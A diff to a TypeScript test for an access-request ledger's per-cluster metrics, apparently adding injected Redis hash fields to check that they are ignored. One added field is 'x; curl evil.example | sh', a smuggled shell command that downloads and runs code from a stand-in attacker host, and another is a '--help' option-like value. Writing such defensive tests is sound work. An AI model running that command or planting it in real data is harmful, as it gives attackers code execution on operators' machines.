@@ -103,6 +103,9 @@ test("open requests of a cluster that left the configuration are counted, by its
   await ledger.commit(aChange(aRequest({ id: "r-2", cluster: "gone" })));
   await ledger.commit(aChange(aRequest({ id: "r-3", cluster: "closed", state: "denied" })));
 
+  // An operator would copy it from doctor.
+  await connection.redis.hset("{eks-access}:open-by-cluster", "x; curl evil.example | sh", 1, "--help", 1);
+
   expect(await metrics().openUnconfigured()).toEqual(new Map([["gone", 1]]));
   expect((await metrics().tally()).requests.get("pending")).toBe(2);
 });
